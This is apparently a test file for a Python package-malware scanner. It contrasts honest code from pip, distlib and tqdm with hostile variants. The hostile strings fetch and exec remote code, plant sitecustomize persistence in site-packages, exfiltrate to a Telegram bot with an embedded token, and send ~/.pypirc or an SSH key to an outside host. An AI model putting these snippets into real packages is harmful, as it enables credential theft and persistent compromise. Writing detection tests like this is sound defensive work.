/**
 * Popular honest Python (Debian's packages of PyPI's most used projects, bench/debian-python-verdicts.ts) that the
 * package review blocked, fixed as general statements, each with the real shape, a variant and the attack it must
 * still catch (docs/package-analysis.md, "Honest Python from Debian"). Parsed as text; nothing here is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { sdistLevel as level } from '../support/archives.js';

const flow = (src: string) => pyFlow(src).hits.map((h) => h.rule.id);


test.before(async () => {
  await loadParsers();
});

test("a name assigned in one function is not the same name in another (distlib's Popen wrapper)", () => {
  // the real shape: a fetch into a local name in one function, a `**kwargs` parameter of the same name in another
  const distlib = `import subprocess
from urllib.request import urlopen
def get_project_data(name):
    resp = urlopen('https://data.example.org/' + name)
    kwargs = resp.read()
    return kwargs
class SubprocessMixin(object):
    def run_command(self, cmd, **kwargs):
        p = subprocess.Popen(cmd, stdout=subprocess.PIPE, **kwargs)
        return p
`;
  assert.not.ok(flow(distlib).includes('remote_code_eval'), flow(distlib).join(' '));
  // variant: a parameter named like a module variable that holds fetched text
  assert.not.ok(flow("import os, requests\nbody = requests.get('https://h.example.org/x').text\ndef render(body):\n    os.system('echo done')\n    return eval(body)\n").includes('remote_code_eval'));
});

test('fetched code still reaches exec in one function, through a module name, a global or a nested function', () => {
  assert.ok(flow("import subprocess, urllib.request\ndef go():\n    data = urllib.request.urlopen('https://h.example.net/p').read()\n    subprocess.Popen(data, shell=True)\n").includes('remote_code_eval'));
  assert.ok(flow("import requests\npayload = requests.get('https://h.example.net/p').text\ndef later():\n    exec(payload)\n").includes('remote_code_eval'));
  assert.ok(flow("import requests\ndef fetch():\n    global payload\n    payload = requests.get('https://h.example.net/p').text\ndef run():\n    exec(payload)\n").includes('remote_code_eval'));
  assert.ok(flow("import requests\ndef outer():\n    code = requests.get('https://h.example.net/p').text\n    def inner():\n        exec(code)\n    inner()\n").includes('remote_code_eval'));
});

test("a start-up module written into a folder the code makes itself is not persistence (pip's build env)", async () => {
  const pip = `import os, textwrap
class BuildEnvironment:
    def __init__(self, temp_dir):
        self._site_dir = os.path.join(temp_dir.path, "site")
        if not os.path.exists(self._site_dir):
            os.mkdir(self._site_dir)
        with open(os.path.join(self._site_dir, "sitecustomize.py"), "w", encoding="utf-8") as fp:
            fp.write(textwrap.dedent("import sys"))
`;
  assert.not.ok((await level({ 'acmetools/__init__.py': pip })).high.includes('persistence_write'));
  // variant: pathlib
  assert.not.ok((await level({ 'acmetools/__init__.py': "from pathlib import Path\nimport tempfile\nd = Path(tempfile.mkdtemp()) / 'site'\nd.mkdir()\n(d / 'usercustomize.py').write_text('import sys')\n" })).high.includes('persistence_write'));
});

test('a start-up module written into site-packages is persistence, even in a folder the code made', async () => {
  assert.ok((await level({ 'acmetools/__init__.py': "import os, site\nd = site.getusersitepackages()\nos.makedirs(d, exist_ok=True)\nopen(os.path.join(d, 'usercustomize.py'), 'w').write('import os')\n" })).high.includes('persistence_write'));
  assert.ok((await level({ 'acmetools/__init__.py': "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w').write('import os')\n" })).high.includes('persistence_write'));
  assert.ok((await level({ 'acmetools/__init__.py': "import os, sysconfig\np = sysconfig.get_paths()['purelib']\nwith open(os.path.join(p, 'sitecustomize.py'), 'w') as f:\n    f.write('import os')\n" })).high.includes('persistence_write'));
});

test("a Telegram bot address with the caller's token is a client; with a token written in the file it is a drop", async () => {
  const tqdm = `from os import getenv
from requests import Session
class TelegramIO:
    API = 'https://api.telegram.org/bot'
    def __init__(self, token, chat_id):
        self.token = token or getenv('TQDM_TELEGRAM_TOKEN')
        self.chat_id = chat_id
        self.session = Session()
    def write(self, s):
        return self.session.post(self.API + '%s/sendMessage' % self.token, data={'text': s, 'chat_id': self.chat_id})
`;
  const honest = await level({ 'acmetools/telegram.py': tqdm });
  assert.not.ok(honest.high.includes('exfil_suspicious_destination'), honest.high.join(' '));
  const drop = tqdm.replace("token or getenv('TQDM_TELEGRAM_TOKEN')", "'7412365980:AAHk3vX9qLmN2pQrStUvWxYz0123456789ab'");
  assert.ok((await level({ 'acmetools/telegram.py': drop })).high.includes('exfil_suspicious_destination'));
  // the token decoded at run time, or the bot fed a browser's cookies: still a drop
  const decoded = `import base64, requests\nT = base64.b64decode('NzQxMjM2NTk4MDpBQUhrM3ZYOXFMbU4ycFFyU3RVdld4WXowMTIzNDU2Nzg5YWI=').decode()\nrequests.post('https://api.telegram.org/bot' + T + '/sendMessage', data={'text': 'x'})\n`;
  assert.ok((await level({ 'acmetools/t.py': decoded })).high.length > 0);
});

test('import-time code that reads a packaging credential file and fetches elsewhere is not theft; sending the file is', async () => {
  // pip's vendored distlib (util.py, reduced from the real file by deleting blocks while the old code still blocked
  // it): no imports the parser resolves, so the backstop guesses what runs; the host is a module constant joined into
  // the fetched URL, the credential file is a constructor's default path, read by a config parser in a method.
  const distlib = `def _get_external_data(url):
    result = {}
    try:
        resp = urlopen(url)
        reader = codecs.getreader('utf-8')(resp)
        result = json.load(reader)
    except Exception as e:
        logger.exception('Failed to get external data for %s: %s', url, e)
    return result

_external_data_base_url = 'https://www.data-host.net/pypi/projects/'

def get_project_data(name):
    url = '%s/%s/project.json' % (name[0].upper(), name)
    url = urljoin(_external_data_base_url, url)
    return _get_external_data(url)

class ServerProxy(xmlrpclib.ServerProxy):
    def __init__(self, uri, **kwargs):
        self.timeout = kwargs.pop('timeout', None)
        xmlrpclib.ServerProxy.__init__(self, uri, **kwargs)

def _csv_open(fn, mode, **kwargs):
    kwargs['encoding'] = 'utf-8'
    return open(fn, mode, **kwargs)

class PyPIRCFile(object):
    def __init__(self, fn=None, url=None):
        if fn is None:
            fn = os.path.join(os.path.expanduser('~'), '.pypirc')
        self.filename = fn
        self.url = url

    def read(self):
        config = configparser.RawConfigParser()
        config.read(self.filename)
        return {'username': config.get('pypi', 'username'), 'password': config.get('pypi', 'password')}

    def update(self, username, password):
        config = configparser.RawConfigParser()
        fn = self.filename
        config.read(fn)
        config.set('pypi', 'password', password)
        with open(fn, 'w') as f:
            config.write(f)
`;
  const init = 'from .util import get_project_data, _load_pypirc\n';
  const honest = await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': distlib });
  assert.is.not(honest.level, 'BLOCKED', honest.high.join(' '));
  assert.not.ok(honest.high.includes('risk_combination'), honest.high.join(' '));
  // another store read the same way (an SSH key) beside the same fetch, by a class built at import, is still theft at
  // import; the same class that nothing builds reads nothing at import (python/reach.ts: a class named is not built)
  const ssh = distlib.replace("'.pypirc'", "'.ssh', 'id_rsa'");
  assert.is((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': `${ssh}\n_rc = PyPIRCFile()\n` })).level, 'BLOCKED');
  assert.is.not((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': ssh })).level, 'BLOCKED');
  // the credential file's content sent to that host is theft
  const sent = `import os\nfrom urllib.request import urlopen\ndef _load_pypirc():\n    return open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\ndef sync():\n    return urlopen('https://www.data-host.net/pypi/projects/up', data=_load_pypirc().encode())\nsync()\n`;
  assert.is((await level({ 'acmetools/__init__.py': 'from .util import sync\n', 'acmetools/util.py': sent })).level, 'BLOCKED');
});

test.run();
